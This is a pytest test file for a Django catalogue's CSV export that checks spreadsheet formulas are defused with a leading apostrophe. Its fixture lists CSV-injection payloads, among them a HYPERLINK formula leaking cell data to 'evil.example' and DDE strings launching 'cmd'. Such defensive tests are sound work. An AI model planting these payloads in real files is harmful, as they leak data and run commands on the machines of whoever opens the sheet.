"""Catalogue CSV export (API and web UI): the upload format, with spreadsheet formulas defused."""
from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from reranking.models import Item
from reranking.services.catalogue import soft_delete_item, upsert_items
from reranking.services.csv_export import neutralised

pytestmark = pytest.mark.django_db

HOSTILE = {
    "f-eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "f-plus": "+1+cmd|' /C calc'!A0",
    "f-minus": "-2+3",
    "f-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f-tab": "\t=1+1",
    "f-cr": "\r=1+1",
}


@pytest.fixture
def shop(alice):
    rows = [{"item_id": item_id, "title": title, "category": title, "tags": [title, "plain"]}
            for item_id, title in HOSTILE.items()]
    rows += [
        {"item_id": "=cmd", "title": "An id that looks like a formula"},
        {"item_id": "plain", "title": "Plain lamp", "price": "12.50", "attributes": {"colour": "=red", "size": "L"}},
        {"item_id": "gone", "title": "Deleted"},
    ]
    upsert_items(alice.tenant, rows)
    soft_delete_item(Item.objects.get(tenant=alice.tenant, external_id="gone"))
    return alice


def parse(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def assert_defused(rows: list[dict]) -> None:
    by_id = {row["item_id"]: row for row in rows}
    assert set(by_id) == {*HOSTILE, "'=cmd", "plain"}, "every live item, no deleted one"
    for item in Item.objects.filter(external_id__in=HOSTILE):  # stored stripped: "\t=1+1" is kept as "=1+1"
        assert by_id[item.external_id]["title"] == "'" + item.title
        assert by_id[item.external_id]["category"] == "'" + item.category
        assert by_id[item.external_id]["tags"].startswith("'")
    plain = by_id["plain"]
    assert (plain["title"], plain["price"], plain["available"]) == ("Plain lamp", "12.50", "true")
    assert (plain["colour"], plain["size"]) == ("'=red", "L")  # attributes become columns, defused too
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_api_exports_the_catalogue_with_formulas_defused(shop):
    response = shop.client_with("read").get("/api/v1/items/export")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    assert body.splitlines()[0] == b"item_id,title,description,category,tags,price,available,colour,size"
    assert_defused(parse(body))


def test_the_ui_exports_the_same_file_to_any_member(shop):
    from django.contrib.auth import get_user_model

    viewer = Client()
    viewer.force_login(get_user_model().objects.get(username="bob"))
    response = viewer.get(f"/t/{shop.tenant.slug}/items/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert_defused(parse(b"".join(response.streaming_content)))
    page = viewer.get(f"/t/{shop.tenant.slug}/items/")
    assert f"/t/{shop.tenant.slug}/items/export.csv".encode() in page.content


@pytest.mark.parametrize(("value", "expected"), [
    ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (" =1", " =1"), ("'=1", "''=1"), ("'a", "'a"),  # one more apostrophe: upload removes exactly one
])
def test_neutralised(value, expected):
    assert neutralised(value) == expected
